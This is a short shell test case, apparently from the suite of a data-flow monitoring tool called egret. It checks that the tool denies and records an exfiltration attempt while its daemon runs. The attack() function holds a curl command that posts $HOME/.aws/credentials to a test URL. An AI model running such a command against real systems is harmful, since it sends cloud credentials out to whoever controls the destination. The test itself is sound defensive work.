# SPDX-License-Identifier: Apache-2.0
TITLE="egret run while the daemon runs: both tell, the daemon's history once, nothing leaves"
VERDICT=QUIET FORM=daemon
attack() {
	[ -S "${EGRET_RUNTIME_DIR:-}/control.sock" ] || return 0
	"$EGRET" run --json -- curl -s -m 5 -d @"$HOME/.aws/credentials" "$URL/" >run.json
	[ -s run.json ]
}
check() {
	grep -q '"verdict":"deny"' run.json || { echo "egret run denied nothing: $(cat run.json)"; return 1; }
	told kind=taint source=read 'exe=*/curl' -- kind=flow verdict=deny 'exe=*/curl' "destination=$SINK4:80" || return
}
